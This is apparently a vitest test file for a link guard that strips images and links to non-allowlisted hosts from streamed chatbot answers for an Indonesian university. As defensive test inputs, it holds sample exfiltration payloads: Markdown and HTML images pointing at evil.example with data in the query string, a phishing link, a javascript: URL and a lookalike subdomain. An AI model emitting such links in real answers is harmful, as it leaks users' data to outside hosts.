import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { guardLinks, hostAllowlist, LinkGuard } from "../src/answering/link-guard";

const allowed = hostAllowlist("unm.ac.id, kemdikbud.go.id");

function streamed(pieces: string[]): string {
  const guard = new LinkGuard(allowed);
  return pieces.map((piece) => guard.push(piece)).join("") + guard.flush();
}

describe("links and images in answers", () => {
  it("removes images that point at outside hosts, whatever their URL carries", () => {
    expect(guardLinks("Lihat ![grafik](https://evil.example/log?q=biaya%20kuliah) di atas.", allowed)).toBe(
      "Lihat  di atas.",
    );
    expect(guardLinks('Foto: <img src="https://evil.example/x.png?s=rahasia">', allowed)).toBe("Foto: ");
    // Balanced parentheses belong to the URL, as Markdown renderers read it.
    expect(guardLinks("A ![x](https://evil.example/?q=biaya%20(asrama)%20putri) B", allowed)).toBe("A  B");
  });

  it("keeps a link's text but drops its outside target", () => {
    expect(guardLinks("Daftar di [portal resmi](https://evil.example/phish).", allowed)).toBe(
      "Daftar di portal resmi.",
    );
    expect(guardLinks("Buka <https://evil.example/a> atau https://evil.example/b sekarang", allowed)).toBe(
      "Buka  atau  sekarang",
    );
    expect(guardLinks("Klik [di sini](javascript:alert(1))", allowed)).toContain("di sini");
    expect(guardLinks("Klik [di sini](javascript:alert(1))", allowed)).not.toContain("javascript:");
  });

  it("keeps images, links and URLs on allowed hosts and their subdomains", () => {
    const text =
      "Daftar di [PMB](https://pmb.unm.ac.id/daftar), logo ![logo](https://unm.ac.id/logo.png), info https://kemdikbud.go.id.";
    expect(guardLinks(text, allowed)).toBe(text);
    expect(guardLinks("https://unm.ac.id.evil.example/x", allowed)).toBe("");
  });

  it("leaves ordinary text, citation markers and prices alone", () => {
    const text = "Biaya [1] adalah Rp 750.000 (per bulan) dan <b>tidak</b> termasuk listrik! Hubungi humas.";
    expect(guardLinks(text, allowed)).toBe(text);
  });

  it("sends, token by token, exactly what it would store for the whole answer", () => {
    const alphabet = fc.constantFrom(
      ..."ab h[]()!<>:/. \n\"'".split(""),
      "http",
      "https://",
      "evil.example",
      "unm.ac.id",
      "![",
      "](",
      "<img ",
      "<a href=",
    );
    fc.assert(
      fc.property(
        fc.array(
          fc.array(alphabet, { maxLength: 6 }).map((parts) => parts.join("")),
          { maxLength: 30 },
        ),
        (pieces) => {
          expect(streamed(pieces)).toBe(guardLinks(pieces.join(""), allowed));
        },
      ),
      { numRuns: 2000 },
    );
  });

  it("holds back only while a link could still be forming", () => {
    const guard = new LinkGuard(allowed);
    expect(guard.push("Lihat ![peta")).toBe("Lihat ");
    expect(guard.push("](https://evil.example/?q=rahasia)")).toBe("");
    expect(guard.push(" dan [1] ")).toBe(" dan [1] ");
    expect(guard.flush()).toBe("");
  });
});
